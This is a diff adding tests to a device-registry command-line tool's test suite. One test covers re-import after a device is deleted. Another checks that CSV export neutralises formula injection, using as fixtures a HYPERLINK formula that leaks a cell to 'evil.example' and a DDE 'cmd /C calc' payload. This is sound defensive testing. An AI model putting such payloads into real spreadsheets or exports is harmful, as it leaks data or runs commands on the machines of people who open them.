@@ -157,6 +157,23 @@ def test_an_import_interrupted_and_run_again_registers_nothing_twice(registry, t
     assert not (tmp_path / "fleet.errors.csv").exists()
 
 
+def test_a_device_deleted_since_the_last_import_is_created_again_not_called_present(
+    registry, tmp_path, device_type, local_server
+):
+    source = _devices_csv(tmp_path / "fleet.csv", device_type, 3)
+    assert registry("import", str(source)).exit_code == 0
+    listed = requests.get(f"{local_server}/devices", params={"device_type": device_type}, timeout=30).json()
+    assert requests.delete(f"{local_server}/devices/{listed['items'][0]['id']}", timeout=30).status_code == 204
+
+    again = registry("import", str(source))
+
+    # The same file, the same batch: a new run's request, not the first run's answer replayed.
+    assert again.exit_code == 0, again.output
+    assert "3 devices: created 1, already present 2, failed 0." in again.output
+    everything = [row["mac_address"] for row in csv.DictReader(source.open())]
+    assert sorted(_registered(local_server, device_type)) == sorted(everything)
+
+
 def test_a_server_out_of_reach_stops_the_import_and_every_unsent_row_is_in_the_errors_file(
     registry, tmp_path, device_type, local_server
 ):
@@ -237,6 +254,38 @@ def test_an_export_imports_back_unchanged_as_csv_and_as_json_lines(registry, tmp
             original["ip_address"],
             original["attributes.rack"],
         )
+
+
+def test_formula_cells_export_as_text_and_import_back_unchanged(registry, tmp_path, device_type, local_server):
+    macs = _macs(3)
+    values = [
+        ('=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "hall 1"),
+        ("Gate sensor", "+cmd|' /C calc'!A0"),
+        ("Buoy", "-12.5"),
+    ]
+    source = tmp_path / "formulas.jsonl"
+    source.write_text(
+        "".join(
+            json.dumps({"name": name, "device_type": device_type, "mac_address": mac, "location": location}) + "\n"
+            for (name, location), mac in zip(values, macs, strict=True)
+        )
+    )
+    assert registry("import", str(source)).exit_code == 0
+    exported = tmp_path / "export.csv"
+    assert registry("export", "--device-type", device_type, "-o", str(exported)).exit_code == 0
+
+    rows = list(csv.DictReader(exported.open()))
+    # No cell a spreadsheet would run: each is text, its quote the file's alone.
+    assert sorted((row["name"], row["location"]) for row in rows) == sorted(
+        ("'" + name if name[0] in "=+-" else name, "'" + location if location[0] in "=+-" else location)
+        for name, location in values
+    )
+    again = registry("import", str(exported))
+    assert again.exit_code == 0, again.output
+    assert "3 devices: created 0, already present 3, failed 0." in again.output
+    listed = requests.get(f"{local_server}/devices", params={"device_type": device_type}, timeout=30).json()["items"]
+    details = [requests.get(f"{local_server}/devices/{device['id']}", timeout=30).json() for device in listed]
+    assert sorted((device["name"], device["location"]) for device in details) == sorted(values)
 
 
 def test_status_reports_are_sent_in_batches_and_a_repeat_changes_nothing(registry, tmp_path, device_type, local_server):
